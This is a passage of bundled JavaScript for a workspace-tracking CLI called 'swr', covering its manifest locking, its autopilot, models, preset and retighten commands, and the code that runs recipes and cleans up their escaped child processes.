    const ignore = [...VOLATILE_DIRS, ...VCS_DIRS, SWR_DIR, ...inner.sort().map(literalRule)];
    const ignored = ignoreMatcher(ignore);
    const markers = TREE_MARKERS.filter(m => {
        const st = lstatOf(external_node_path_default().join(root, m));
        return st?.isFile() === true && st.size > 0 && !ignored(m, m);
    });
    const { source, anyFile } = firstSourceFile(ctx, root, ignored);
    if (!anyFile)
        return undefined;
    if (markers.length === 0 && source === undefined)
        return { why: 'no project marker or source file in it: add it with "swr add" if it matters' };
    const sentinels = [...new Set([...markers.slice(0, 2), ...(source ? [source] : [])])];
    return { path: name, kind: 'tree', ignore, sentinels };
}
/**
 * The first non-empty source file in the tree walk's order, honouring the tree's ignore rules,
 * and whether the tree holds any file at all.
 */
function firstSourceFile(ctx, root, ignored) {
    const budget = scanBudget();
    let anyFile = false;
    const walk = (absDir, relDir) => {
        for (const name of listDir(absDir)) {
            const rel = joinRel(relDir, name);
            const abs = external_node_path_default().join(absDir, name);
            if (!budget.take())
                return undefined;
            if (ctx.exclude.has(abs))
                continue;
            const st = lstatOf(abs);
            if (ignored(rel, name, st?.isDirectory() === true))
                continue;
            if (st?.isDirectory()) {
                const found = walk(abs, rel);
                if (found)
                    return found;
            }
            else if (st) {
                anyFile = true;
                if (st.isFile() && st.size > 0 && SOURCE_FILE.test(name))
                    return rel;
            }
        }
        return undefined;
    };
    const source = walk(root, '');
    return { source, anyFile };
}

// EXTERNAL MODULE: ./node_modules/proper-lockfile/index.js
var proper_lockfile = __nccwpck_require__(3648);
var proper_lockfile_default = /*#__PURE__*/__nccwpck_require__.n(proper_lockfile);
;// CONCATENATED MODULE: ./src/core/state/lock.ts
/**
 * One exclusive lock per subject, in the private state directory: the manifest file (serialises
 * doctor/restore and every manifest-editing command; taken before the manifest is read, so keyed
 * by its path) and the workspace (so two manifests describing one directory never run recipes in
 * it at once). A waiting run says so once and gives up after a bounded time.
 *
 * Staleness is decided by whether the holder lives, not by how recently it refreshed: a holder on
 * this host whose process is alive (its pid answers signal 0 and its start time is the one it
 * recorded, so a reused pid does not count) keeps the lock however long its event loop is busy.
 * Only a lock without a readable holder note, or held from another host, falls back to the
 * refresh time (`staleMs`). Losing the lock anyway (its file removed, as a wipe of the state
 * directory does, or taken over) is reported through `onLost`, never thrown from a timer.
 */




// Loaded at start-up on purpose: the signal-exit handlers it installs must precede the CLI's own
// SIGINT/SIGTERM handlers, or a signal re-raised by signal-exit ends swr before it can exit 130.




/** One spelling per file: symlinked paths to the same manifest must take the same lock. */
function canonicalSubject(subject) {
    const abs = external_node_path_default().resolve(subject);
    try {
        return external_node_fs_default().realpathSync(abs);
    }
    catch {
        try {
            return external_node_path_default().join(external_node_fs_default().realpathSync(external_node_path_default().dirname(abs)), external_node_path_default().basename(abs));
        }
        catch {
            return abs;
        }
    }
}
const sleep = (ms) => new Promise(r => setTimeout(r, ms));
/** proper-lockfile's own mtime staleness is switched off (a day); this module decides instead. */
const LIBRARY_STALE_MS = 24 * 3600 * 1000;
const REFRESH_MS = 2000;
async function lockWorkspace(opts) {
    const dir = ensurePrivateDir(opts.stateDir, 'locks');
    const key = (0,external_node_crypto_.createHash)('sha256').update(canonicalSubject(opts.subject)).digest('hex').slice(0, 32);
    const target = external_node_path_default().join(dir, key);
    const lockDir = `${target}.lock`;
    const info = external_node_path_default().join(dir, `${key}.holder`);
    const deadline = Date.now() + opts.waitMs;
    let warned = false;
    for (;;) {
        try {
            const release = await proper_lockfile_default().lock(target, {
                realpath: false,
                lockfilePath: lockDir,
                stale: LIBRARY_STALE_MS,
                update: REFRESH_MS,
                retries: 0,
                // proper-lockfile overwrites the code with ECOMPROMISED; the message keeps the cause.
                onCompromised: err => opts.onLost?.(err.message.includes('ENOENT')
                    ? 'its file in the state directory was removed'
                    : 'another process took it over')
            });
            try {
                writeFileAtomic(info, holderNote(), { mode: 0o600 });
            }
            catch (err) {
                await release().catch(() => undefined);
                throw err;
            }
            // An interrupt ends swr with process.exit: proper-lockfile lets go of the lock on exit, and
            // the note of who held it goes with it.
            const dropInfo = () => external_node_fs_default().rmSync(info, { force: true });
            process.once('exit', dropInfo);
            return async () => {
                process.removeListener('exit', dropInfo);
                dropInfo();
                await release().catch(() => undefined);
            };
        }
        catch (err) {
            if (err.code !== 'ELOCKED')
                throw err;
        }
        if (takeOverIfStale(lockDir, info, opts.staleMs ?? 10_000))
            continue;
        if (opts.abort?.aborted)
            throw new SwrError(`interrupted while waiting for the lock on ${opts.subject}`, EXIT.INTERRUPTED);
        if (Date.now() >= deadline) {
            throw new SwrError(`${opts.subject} is locked by another swr run (${holder(info)}); gave up after ${Math.round(opts.waitMs / 1000)} s`, EXIT.UNREPAIRABLE);
        }
        if (!warned) {
            opts.onWait?.(holder(info));
            warned = true;
        }
        await sleep(150);
    }
}
function holderNote() {
    const start = startTime(process.pid);
    return `pid ${process.pid} host ${external_node_os_default().hostname()}${start ? ` start ${start}` : ''} since ${new Date().toISOString()}\n`;
}
/** The kernel's start time of a process (clock ticks since boot), where /proc has it. */
function startTime(pid) {
    try {
        const stat = external_node_fs_default().readFileSync(`/proc/${pid}/stat`, 'utf8');
        // Fields after the command name (which may hold spaces and parentheses): state is the first,
        // starttime (field 22) the twentieth.
        return stat.slice(stat.lastIndexOf(')') + 2).split(' ')[19];
    }
    catch {
        return undefined;
    }
}
/** Whether the process that wrote `note` runs on this host now (undefined: cannot tell). */
function holderAlive(note) {
    const m = /^pid (\d+) host (\S+)(?: start (\d+))?/.exec(note);
    if (!m || m[2] !== external_node_os_default().hostname())
        return undefined;
    const pid = Number(m[1]);
    try {
        process.kill(pid, 0);
    }
    catch (err) {
        // EPERM: alive, under another user.
        if (err.code !== 'EPERM')
            return false;
    }
    const recorded = m[3];
    const now = recorded ? startTime(pid) : undefined;
    return !(recorded && now && now !== recorded);
}
/**
 * Remove a lock whose holder is gone; true when it did. The note is read twice, the second time
 * just before the removal, so a lock taken over by a third run in between is left alone.
 */
function takeOverIfStale(lockDir, info, staleMs) {
    const note = readNote(info);
    const alive = note === undefined ? undefined : holderAlive(note);
    if (alive === true)
        return false;
    if (alive === undefined) {
        const st = external_node_fs_default().statSync(lockDir, { throwIfNoEntry: false });
        if (!st)
            return true;
        if (Date.now() - st.mtimeMs < staleMs)
            return false;
    }
    if (readNote(info) !== note)
        return false;
    try {
        external_node_fs_default().rmdirSync(lockDir);
    }
    catch (err) {
        if (err.code !== 'ENOENT')
            return false;
    }
    return true;
}
function readNote(info) {
    try {
        return external_node_fs_default().readFileSync(info, 'utf8');
    }
    catch {
        return undefined;
    }
}
function holder(info) {
    return readNote(info)?.trim() ?? 'holder unknown';
}

;// CONCATENATED MODULE: ./src/cli/lock.ts
/**
 * Running a command under the manifest's lock (doctor, restore and every editing command), and
 * doctor/restore under the workspace's lock as well. A lock lost while held (the state directory
 * wiped mid-run) stops the run: at once for a command that starts nothing, after its recipes are
 * stopped for one that does; either way it ends with EXIT.CONFLICT and one line.
 */



const DEFAULT_LOCK_WAIT_S = 300;
async function withManifestLock(flags, io, fn) {
    if (flags.lock === false)
        return fn();
    return withLock(manifestLocation(flags, io).file, flags, io, fn);
}
/** The workspace's own lock, keyed by its real path: two manifests of one directory take turns. */
async function withWorkspaceLock(workspace, flags, io, fn) {
    if (flags.lock === false)
        return fn();
    return withLock(workspace, flags, io, fn, 'workspace ');
}
async function withLock(subject, flags, io, fn, what = '') {
    let lost;
    const release = await lockWorkspace({
        stateDir: stateDir(io),
        subject,
        waitMs: (flags.lockTimeout ?? DEFAULT_LOCK_WAIT_S) * 1000,
        abort: io.abort,
        onWait: holder => void io.stderr.write(`swr: waiting for the lock on ${what}${subject} (${holder})\n`),
        onLost: why => {
            lost = `lost the lock on ${what}${subject}: ${why}`;
            io.stop?.(lost, EXIT.CONFLICT);
        }
    });
    try {
        let result;
        try {
            result = await fn();
        }
        catch (err) {
            // What failed after the lock was lost (a journal in a wiped state directory) failed for that.
            if (lost)
                throw new SwrError(lost, EXIT.CONFLICT);
            throw err;
        }
        if (lost)
            throw new SwrError(lost, EXIT.CONFLICT);
        return result;
    }
    finally {
        await release();
    }
}

;// CONCATENATED MODULE: ./src/cli/commands/author/autopilot.ts
/**
 * `swr autopilot`: bring a manifest up to date in one step, safely enough to run again and again.
 * It edits under the manifest lock and never overwrites a manifest that appeared meanwhile; a new
 * manifest is written only when something was added. Tracking only detects a loss, so it ends by
 * naming the entries that have no way back (no recipe, cache source or escrow) and how to add one.
 */






function autopilotCommand(flags, io) {
    return withManifestLock(flags, io, async () => {
        const m = await openForEdit(flags, io);
        const plan = planAutopilot(m.workspace, m.doc.body.entries, exclusions(m.file, io));
        const added = await captureAll(m, plan.requests, io, flags.jobs);
        const saved = added.length > 0 ? await saveAdded(m, added, io) : undefined;
        const missing = saved || !m.created ? m.doc.body.entries.filter(lacksRecipe) : [];
        const t = target(flags);
        if (flags.json) {
            printJson(io, {
                schema: 'swr.autopilot/1',
                manifest: m.file,
                workspace: m.workspace,
                created: m.created && saved !== undefined,
                added: added.map(a => a.entry),
                skipped: plan.skipped,
                truncated_scan: plan.truncated,
                no_recipe: missing.map(e => ({
                    id: e.id,
                    kind: e.kind,
                    path: e.path,
                    escrow: escrowHint(e, t) ?? null
                })),
                how_to_add_recipe: recipeHint(shown(io, m.file), t),
                ...savedJson(saved)
            });
        }
        else if (!flags.quiet) {
            io.stdout.write(autopilotText(io, m, added, plan.skipped, saved, missing, t));
        }
        return EXIT.HEALTHY;
    });
}
function autopilotText(io, m, added, skipped, saved, missing, t) {
    const out = [saved ? createdLine(io, m) : ''];
    for (const a of added)
        out.push(addedLine(a.entry));
    for (const s of skipped)
        out.push(`skipped ${s.path}: ${s.why}\n`);
    if (added.length === 0)
        out.push(m.created
            ? `nothing to track in ${m.workspace}; no manifest written\n`
            : 'nothing new to track: every top-level source tree, script and large file is tracked\n');
    if (saved)
        out.push(signedLine(saved, m));
    if (missing.length > 0) {
        const n = missing.length;
        out.push(`${n} ${n === 1 ? 'entry has' : 'entries have'} no restore recipe, cache source or escrow:\n`);
        for (const e of missing) {
            const esc = escrowHint(e, t);
            out.push(`  ${e.id} (${e.kind} ${e.path})${esc ? `: or ${esc}` : ''}\n`);
        }
        out.push(`to add one: ${recipeHint(shown(io, m.file), t)}\n`);
    }
    return out.join('');
}

;// CONCATENATED MODULE: ./src/core/author/models.ts
/**
 * `models`: model weights of any size at or above a threshold, anywhere in the workspace. Unlike
 * the other scans this one enters volatile directories: models usually live in caches
 * (~/.cache/huggingface, ~/.cache/torch) and build outputs, exactly where wipes strike. Only VCS
 * metadata, .swr and swr's own files are skipped. Symlinks are never followed out of the
 * workspace; a model name that is a symlink to a file inside it (the Hugging Face cache keeps
 * `snapshots/<rev>/model.safetensors -> ../../blobs/<sha>`) stands for the file it points to.
 * Tracking records what a check reads (size, head/tail digest), not a full hash, unless asked.
 */










const MODEL_EXTENSIONS = ['.gguf', '.safetensors', '.onnx', '.bin', '.pt', '.pth', '.ckpt'];
const DEFAULT_MIN_MODEL_BYTES = 1024 * 1024;
function isModelName(name) {
    const lower = name.toLowerCase();
    return MODEL_EXTENSIONS.some(ext => lower.endsWith(ext) && lower.length > ext.length);
}
function findModels(workspace, entries, exclude, minBytes) {
    const root = external_node_fs_default().realpathSync(workspace);
    const budget = scanBudget();
    const found = new Map();
    const keep = (m) => {
        if (pathProblem(m.path))
            return;
        const seen = found.get(m.path);
        if (!seen || (seen.via && !m.via))
            found.set(m.path, m);
    };
    const walk = (absDir, relDir) => {
        for (const name of listDir(absDir)) {
            if (!budget.take())
                return;
            const abs = external_node_path_default().join(absDir, name);
            if (isMetaName(name) || exclude.has(abs))
                continue;
            const rel = joinRel(relDir, name);
            const st = lstatOf(abs);
            if (st?.isDirectory())
                walk(abs, rel);
            else if (!st || !isModelName(name))
                continue;
            else if (st.isFile()) {
                if (st.size >= minBytes)
                    keep({ path: rel, bytes: st.size });
            }
            else if (st.isSymbolicLink()) {
                const target = linkedFile(root, abs, minBytes);
                if (target)
                    keep({ ...target, via: rel });
            }
        }
    };
    walk(root, '');
    const cov = coverageOf(entries);
    const models = [...found.values()]
        .map(m => {
        const tracked = cov.trackedBy(m.path);
        return tracked ? { ...m, tracked } : m;
    })
        .sort((a, b) => b.bytes - a.bytes || (a.path < b.path ? -1 : 1));
    return { models, truncated: budget.exhausted };
}
/** The regular file a symlink leads to, when it is inside the workspace and large enough. */
function linkedFile(root, link, minBytes) {
    let real;
    try {
        real = external_node_fs_default().realpathSync(link);
    }
    catch {
        return undefined;
    }
    if (!isInside(root, real) || real === root)
        return undefined;
    const st = lstatOf(real);
    if (!st?.isFile() || st.size < minBytes)
        return undefined;
    return { path: external_node_path_default().relative(root, real).split((external_node_path_default()).sep).join('/'), bytes: st.size };
}
/**
 * A tier-3 blob entry for a model: exact size and head/tail digest, which read 2 MiB whatever the
 * size, so tracking a cache of 100 GB takes seconds. The full sha256 (read by `check --deep`)
 * costs reading every byte; `fullHash` records it through the ordinary capture.
 */
async function captureModel(workspace, req, taken, opts) {
    if (opts.fullHash)
        return captureEntry(workspace, { ...req, kind: 'blob', tier: 3 }, taken, {
            pool: opts.pool ?? {}
        });
    if (taken.has(req.id))
        throw new UsageError(`entry "${req.id}" already exists in the manifest`);
    const loc = locateInside(workspace, req.path);
    if (loc.state !== 'present')
        throw new UsageError(`${req.path}: cannot add: ${loc.why}`);
    if (!loc.st.isFile())
        throw new UsageError(`${req.path}: cannot add as blob: it is not a regular file`);
    const ht = hashHeadTail(loc.abs);
    const expect = { size: ht.size, headtail: ht.sha256, mode: octal(ht.mode) };
    return { entry: { id: req.id, kind: 'blob', path: req.path, tier: 3, needs: [], expect } };
}

;// CONCATENATED MODULE: ./src/cli/commands/author/models.ts
/**
 * `swr models`: model weights are the files most worth tracking and the easiest to miss, since
 * they hide in caches. Listing is read-only and needs no manifest, so it is safe to run anywhere;
 * only --apply takes the lock and edits. An id is derived from the name a model was found under
 * (a Hugging Face snapshot link rather than its content-addressed blob), so it stays readable, and
 * the list printed after --apply already shows the new entries as tracked.
 */






const models_MIB = 1024 * 1024;
function modelJson(x) {
    return {
        path: x.path,
        bytes: x.bytes,
        ...(x.via ? { via: x.via } : {}),
        tracked_by: x.tracked?.id ?? null,
        tracked_as: x.tracked ? (x.tracked.exact ? 'entry' : 'inside tree') : null
    };
}
function modelLine(x) {
    const state = x.tracked
        ? x.tracked.exact
            ? `tracked by "${x.tracked.id}"`
            : `inside tree "${x.tracked.id}"`
        : 'untracked';
    return `${size(x.bytes).padStart(10)}  ${escapeText(x.path)}  ${state}${x.via ? `  (via ${escapeText(x.via)})` : ''}\n`;
}
async function modelsCommand(flags, io) {
    const minBytes = flags.minMb === undefined ? DEFAULT_MIN_MODEL_BYTES : flags.minMb * models_MIB;
    if (flags.fullHash && !flags.apply)
        throw new UsageError('--full-hash goes with --apply');
    if (!flags.apply) {
        const view = readView(flags, io);
        const scan = findModels(view.workspace, view.entries, exclusions(view.file, io), minBytes);
        const where = { workspace: view.workspace, manifest: view.found ? view.file : null };
        printModels(io, flags, where, scan, minBytes);
        return EXIT.HEALTHY;
    }
    return withManifestLock(flags, io, async () => {
        const m = await openForEdit(flags, io);
        const scan = findModels(m.workspace, m.doc.body.entries, exclusions(m.file, io), minBytes);
        const taken = new Set(m.doc.body.entries.map(e => e.id));
        const added = [];
        for (const x of scan.models.filter(y => !y.tracked)) {
            const id = deriveId(x.via ?? x.path, taken);
            const opts = { fullHash: flags.fullHash === true, pool: { jobs: flags.jobs } };
            added.push(await captureModel(m.workspace, { path: x.path, id }, taken, opts));
            taken.add(id);
        }
        const saved = added.length > 0 ? await saveAdded(m, added, io) : undefined;
        const now = new Map(added.map(a => [a.entry.path, a.entry.id]));
        const models = scan.models.map(x => {
            const id = now.get(x.path);
            return id === undefined ? x : { ...x, tracked: { id, exact: true } };
        });
        const where = { workspace: m.workspace, manifest: m.file };
        printModels(io, flags, where, { ...scan, models }, minBytes, { added, saved, m });
        return EXIT.HEALTHY;
    });
}
function printModels(io, flags, where, scan, minBytes, applied) {
    if (flags.json) {
        printJson(io, {
            schema: 'swr.models/1',
            manifest: where.manifest,
            workspace: where.workspace,
            min_bytes: minBytes,
            truncated_scan: scan.truncated,
            models: scan.models.map(modelJson),
            applied: applied !== undefined,
            ...(applied ? { added: applied.added.map(a => a.entry), ...savedJson(applied.saved) } : {})
        });
        return;
    }
    if (flags.quiet)
        return;
    const out = scan.models.map(modelLine);
    if (scan.models.length === 0)
        out.push(`no model files of ${size(minBytes)} or more\n`);
    const untracked = scan.models.filter(x => !x.tracked).length;
    if (!applied && untracked > 0)
        out.push(`${untracked} untracked: "swr models --apply" tracks them as blob entries (tier 3)\n`);
    if (applied) {
        if (applied.saved)
            out.push(createdLine(io, applied.m));
        for (const a of applied.added)
            out.push(addedLine(a.entry));
        if (applied.saved)
            out.push(signedLine(applied.saved, applied.m));
        else
            out.push('nothing to add: every model listed is tracked\n');
    }
    if (scan.truncated)
        out.push('note: the scan stopped early; the workspace is very large\n');
    io.stdout.write(out.join(''));
}

;// CONCATENATED MODULE: ./src/cli/commands/author/preset.ts
/**
 * `swr preset`: preset paths are written relative to $HOME, yet they are resolved under whatever
 * workspace the manifest describes, so a note says so when that workspace is not $HOME. Secrets
 * among the added files are pointed out, because they are tracked by hash only and will never be
 * escrowed. `--list` edits nothing and takes no lock.
 */








function presetCommand(name, flags, io) {
    if (flags.list)
        return Promise.resolve(listPresets(name, flags, io));
    if (name === undefined)
        throw new UsageError(`preset: name one of ${PRESETS.map(p => p.name).join(', ')} (or --list to see their paths)`);
    const preset = presetNamed(name);
    return withManifestLock(flags, io, async () => {
        const m = await openForEdit(flags, io);
        const plan = planPreset(m.workspace, preset, m.doc.body.entries);
        const added = await captureAll(m, plan.requests, io, flags.jobs);
        const saved = added.length > 0 ? await saveAdded(m, added, io) : undefined;
        const home = realOrSelf(io.home);
        const note = m.workspace === home
            ? undefined
            : `workspace ${m.workspace} is not $HOME (${io.home}): preset paths were resolved under the workspace`;
        const secrets = added.filter(a => isSecretPath(a.entry.path)).map(a => a.entry.id);
        if (flags.json) {
            printJson(io, {
                schema: 'swr.preset/1',
                preset: preset.name,
                manifest: m.file,
                workspace: m.workspace,
                workspace_is_home: note === undefined,
                added: added.map(a => a.entry),
                secrets,
                skipped: plan.skipped,
                absent: plan.absent,
                ...savedJson(saved)
            });
        }
        else if (!flags.quiet) {
            const out = note ? [`note: ${note}\n`] : [];
            out.push(saved ? createdLine(io, m) : '');
            for (const a of added)
                out.push(addedLine(a.entry).replace(/\n$/, secrets.includes(a.entry.id) ? ', secret: never escrowed\n' : '\n'));
            for (const s of plan.skipped)
                out.push(`skipped ${s.path}: ${s.why}\n`);
            if (!saved)
                out.push(`nothing to add: no path of preset "${preset.name}" exists here untracked\n`);
            else
                out.push(signedLine(saved, m));
            io.stdout.write(out.join(''));
        }
        return EXIT.HEALTHY;
    });
}
function realOrSelf(p) {
    try {
        return external_node_fs_default().realpathSync(p);
    }
    catch {
        return external_node_path_default().resolve(p);
    }
}
function listPresets(name, flags, io) {
    const presets = name === undefined ? PRESETS : [presetNamed(name)];
    if (flags.json) {
        printJson(io, {
            schema: 'swr.presets/1',
            presets: presets.map(p => ({
                name: p.name,
                description: p.description,
                paths: p.paths.map(x => ({ path: x, secret: isSecretPath(x.replace(/\*/g, 'x')) }))
            }))
        });
        return EXIT.HEALTHY;
    }
    const out = [];
    for (const p of presets) {
        out.push(`${p.name}: ${p.description}\n`);
        for (const x of p.paths)
            out.push(`  ~/${x}${isSecretPath(x.replace(/\*/g, 'x')) ? '  (secret)' : ''}\n`);
    }
    io.stdout.write(out.join(''));
    return EXIT.HEALTHY;
}

;// CONCATENATED MODULE: ./src/core/author/retighten.ts
/**
 * `retighten`: raise loose tree bounds to what is on disk now, never loosening them. A tree's
 * min_files goes up to the current file count when that is higher, and its max_files comes down
 * to the current count when that is lower (or is set when there was none). Only trees that verify
 * right now are touched: a damaged tree's count is the damage, not the truth.
 */


/** The trees `only` names (every tree without it); a named entry that is no tree is bad usage. */
function treesToRetighten(entries, only) {
    const selected = selectEntries(entries, only);
    const notTrees = only && only.length > 0 ? selected.filter(e => e.kind !== 'tree') : [];
    const first = notTrees[0];
    if (first)
        throw new UsageError(`--only ${first.id}: a ${first.kind} entry has no file-count bounds (retighten changes trees only)`);
    return selected.filter((e) => e.kind === 'tree');
}
/** What to change, given each tree's finding from a check made just now. */
function planRetighten(trees, findings) {
    const byId = new Map(findings.map(f => [f.id, f]));
    const plan = { changes: [], skipped: [] };
    for (const e of trees) {
        const f = byId.get(e.id);
        const files = f?.found.files;
        if (!f || f.status !== 'OK' || typeof files !== 'number') {
            const why = f ? `${f.status}: ${f.detail}` : 'not checked';
            plan.skipped.push({ id: e.id, why: `does not verify now (${why}); repair it first` });
            continue;
        }
        plan.changes.push(...boundChanges(e, files));
    }
    return plan;
}
function boundChanges(e, files) {
    const out = [];
    if (files > e.expect.min_files)
        out.push({ id: e.id, field: 'min_files', from: e.expect.min_files, to: files });
    const max = e.expect.max_files;
    if (max === undefined || files < max)
        out.push({
            id: e.id,
            field: 'max_files',
            from: max ?? null,
            to: Math.max(files, e.expect.min_files)
        });
    return out;
}
/** Apply `changes` to the entries in place. */
function applyRetighten(entries, changes) {
    const byId = new Map(entries.map(e => [e.id, e]));
    for (const c of changes) {
        const e = byId.get(c.id);
        if (e?.kind === 'tree')
            e.expect[c.field] = c.to;
    }
}

;// CONCATENATED MODULE: ./src/cli/commands/author/retighten.ts
/**
 * `swr retighten`: loose tree bounds let a partial wipe pass unnoticed. New bounds are taken only
 * from trees that verify now (they are checked first, like `swr check`), so a tree that is already
 * damaged never gets its damage written into its bounds. It edits an existing manifest only:
 * there is nothing to tighten in one that is not there yet.
 */








function retightenCommand(flags, io) {
    return withManifestLock(flags, io, async () => {
        const m = await openForEdit(flags, io);
        if (m.created)
            throw new UsageError(`no manifest at ${m.file}: nothing to retighten`);
        const trees = treesToRetighten(m.doc.body.entries, flags.only);
        const findings = trees.length === 0
            ? []
            : (await checkManifest(loadManifest(m.file, { workspace: flags.workspace, cwd: io.cwd }), {
                only: trees.map(t => t.id),
                jobs: flags.jobs,
                stateDir: stateDir(io),
                version: VERSION,
                command: 'retighten'
            })).results;
        const plan = planRetighten(trees, findings);
        let saved;
        if (plan.changes.length > 0) {
            applyRetighten(m.doc.body.entries, plan.changes);
            saved = await saveEdited(m.file, m.doc, { resign: m.resign, created: false }, io);
        }
        if (flags.json) {
            printJson(io, {
                schema: 'swr.retighten/1',
                manifest: m.file,
                trees: trees.length,
                changes: plan.changes,
                skipped: plan.skipped,
                ...savedJson(saved)
            });
        }
        else if (!flags.quiet) {
            io.stdout.write(retightenText(plan.changes, plan.skipped, saved, m, trees.length));
        }
        return EXIT.HEALTHY;
    });
}
function retightenText(changes, skipped, saved, m, trees) {
    const out = changes.map(c => `tightened "${c.id}": ${c.field} ${c.from ?? 'none'} -> ${c.to}\n`);
    for (const s of skipped)
        out.push(`skipped "${s.id}": ${s.why}\n`);
    if (saved)
        out.push(signedLine(saved, m));
    else
        out.push(trees === 0
            ? 'no tree entries: nothing to retighten; manifest unchanged\n'
            : 'nothing to tighten: bounds already match what is on disk; manifest unchanged\n');
    return out.join('');
}

;// CONCATENATED MODULE: ./src/cli/commands/author/register.ts







function registerAuthorCommands(program, io, done, withGlobals) {
    withGlobals(program.command('audit'))
        .description('list untracked files and directories worth protecting, largest first, each with the "swr add" line that tracks it (read-only; volatile directories are skipped)')
        .option('--limit <n>', `rows to show (default ${DEFAULT_AUDIT_LIMIT})`, intOption('--limit', 1, 1_000_000))
        .action((flags) => done(auditCommand(flags, io)));
    editing(withGlobals(program.command('autopilot')))
        .description('create the manifest if there is none (never overwrites one), then track each top-level source tree, top-level script and large file not yet tracked; trees get marker sentinels and ignore volatile directories')
        .action(async (flags) => done(await autopilotCommand(flags, io)));
    editing(withGlobals(program.command('models')))
        .description('list model files (.gguf .safetensors .onnx .bin .pt .pth .ckpt) of any size from --min-mb up, caches included, and whether each is tracked; --apply tracks the untracked ones as tier-3 blobs')
        .option('--min-mb <n>', 'smallest model to list, in MiB (default 1)', intOption('--min-mb', 0, 16 * 1024 * 1024))
        .option('--apply', 'track every untracked model listed as a blob entry (tier 3): size and head/tail digest, 2 MiB read per model')
        .option('--full-hash', 'with --apply: also record each full sha256 for "check --deep" (reads every byte)')
        .action(async (flags) => done(await modelsCommand(flags, io)));
    editing(withGlobals(program.command('retighten')))
        .description('raise loose tree bounds to the file count on disk now, never loosening them (min_files up, max_files down); trees that do not verify now are skipped')
        .option('--only <id...>', 'retighten only these tree entries')
        .action(async (flags) => done(await retightenCommand(flags, io)));
    editing(withGlobals(program.command('preset')))
        .description(`track the setup files of a common sandbox that exist and are not tracked yet, relative to the workspace (meant for ~/.swr/manifest.json describing $HOME); secrets become tier-0 file entries that are never escrowed. Presets: ${PRESETS.map(p => p.name).join(', ')}`)
        .argument('[name]', 'preset to apply')
        .option('--list', 'list the presets and their paths (with NAME: that preset only)')
        .action(async (name, flags) => done(await presetCommand(name, flags, io)));
}
function editing(cmd) {
    return cmd
        .option('--approve-digest <digest>', 'edit a manifest whose signature does not verify, after reviewing exactly this content')
        .option('--jobs <n>', 'hashing threads (default: cores)', intOption('--jobs', 1, 32))
        .option('--lock-timeout <s>', 'give up waiting for another run after S seconds (default 300)', intOption('--lock-timeout', 0, 86400));
}

;// CONCATENATED MODULE: ./src/core/run/escaped.ts
/**
 * Finding the processes a recipe started that left its process group (`setsid`, a daemonizing
 * server): each recipe runs with a random SWR_RUN_TOKEN in its environment, which children
 * inherit, and /proc tells which processes carry it. Linux only; elsewhere nothing is found.
 * A process that clears its own environment is not found either.
 */


const RUN_TOKEN_VAR = 'SWR_RUN_TOKEN';
function newRunToken() {
    return (0,external_node_crypto_.randomBytes)(16).toString('hex');
}
/** Processes other than this one whose environment carries `token`. */
function findTagged(token) {
    const needle = Buffer.from(`${RUN_TOKEN_VAR}=${token}\0`);
    let pids;
    try {
        pids = external_node_fs_default().readdirSync('/proc').filter(n => /^\d+$/.test(n));
    }
    catch {
        return [];
    }
    const out = [];
    for (const p of pids) {
        const pid = Number(p);
        if (pid === process.pid)
            continue;
        try {
            const env = external_node_fs_default().readFileSync(`/proc/${p}/environ`);
            if (!env.includes(needle))
                continue;
            const name = external_node_fs_default().readFileSync(`/proc/${p}/comm`, 'utf8').trim();
            out.push({ pid, name });
        }
        catch {
            // Gone, or not ours to read.
        }
    }
    return out;
}
const escaped_sleep = (ms) => new Promise(r => setTimeout(r, ms));
/**
 * Stop every process carrying `token`: SIGTERM, up to `graceMs` to go, then SIGKILL. Returns what
 * was found, for the report.
 */
async function killTagged(token, graceMs) {
    const found = findTagged(token);
    if (found.length === 0)
        return found;
    const signal = (sig) => {
        for (const p of found) {
            try {
                process.kill(p.pid, sig);
            }
            catch {
                // Already gone.
            }
        }
    };
    signal('SIGTERM');
    const deadline = Date.now() + graceMs;
    while (Date.now() < deadline && findTagged(token).length > 0)
        await escaped_sleep(50);
    signal('SIGKILL');
    // A zombie keeps its environ readable until reaped; SIGKILL is enough, do not wait on it.
    return found;
}

;// CONCATENATED MODULE: external "node:string_decoder"
const external_node_string_decoder_namespaceObject = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("node:string_decoder");
;// CONCATENATED MODULE: ./src/core/run/output.ts
/**
 * Recipe output handling: split each stream into lines on its own (stdout and stderr interleave,
 * and a secret must never be cut in two by the other stream), decode UTF-8 across chunk
 * boundaries, and keep a bounded tail measured in bytes, in constant time per line.
 */

/** Feed chunks of one stream; whole lines go to `onLine`; `end` flushes the last partial line. */
function lineSplitter(onLine, maxLine) {
    const decoder = new external_node_string_decoder_namespaceObject.StringDecoder('utf8');
    let partial = '';
    const take = (text) => {
        const lines = (partial + text).split('\n');
        partial = lines.pop() ?? '';
        for (const l of lines)
            onLine(l);
        if (partial.length > maxLine) {
            onLine(partial);
            partial = '';
        }
    };
    return {
        push: chunk => take(decoder.write(chunk)),
        end: () => {
            take(decoder.end());
            if (partial)
                onLine(partial);
            partial = '';
        }
    };
}
/** The last `maxBytes` bytes of output, kept as whole lines. */
function tailKeeper(maxBytes) {
    const lines = [];
    const sizes = [];
    let head = 0;
    let bytes = 0;
    let cut = false;
    return {
        add(line) {
            let l = line + '\n';
            let n = Buffer.byteLength(l);
            if (n > maxBytes) {
                // One line longer than the whole budget: keep its end.
                l = Buffer.from(l)
                    .subarray(n - maxBytes)
                    .toString('utf8')
                    .replace(/^\uFFFD+/, '');
                n = Buffer.byteLength(l);
                cut = true;
            }
            lines.push(l);
            sizes.push(n);
            bytes += n;
            while (bytes > maxBytes && head < lines.length) {
                bytes -= sizes[head] ?? 0;
                head++;
                cut = true;
            }
            if (head > 1024 && head * 2 > lines.length) {
                lines.splice(0, head);
                sizes.splice(0, head);
                head = 0;
            }
        },
        text: () => lines.slice(head).join(''),
        truncated: () => cut
    };
}

;// CONCATENATED MODULE: ./src/core/run/recipe.ts
/**
 * Running one recipe: a non-login shell in the workspace, in its own process group, with a minimal
 * environment. A timeout, an abort (Ctrl-C of swr) or the end of the recipe stops the whole group,
 * SIGTERM first and SIGKILL after a grace period, so no grandchild (git, curl, cmake) outlives it.
 * A process that left the group (`setsid`) is found by the run token in its environment, stopped
 * and reported; and once the recipe's own process has exited, swr waits at most a grace period
 * for the output pipes such a process may hold open.
 * Output is split into lines, scrubbed, streamed to `onLine`, and kept bounded for the report.
 */



const KEEP_BYTES = 64 * 1024;
const DEFAULT_GRACE_MS = 3000;
const BASE_ENV_NAMES = ['PATH', 'HOME', 'LANG', 'TMPDIR'];
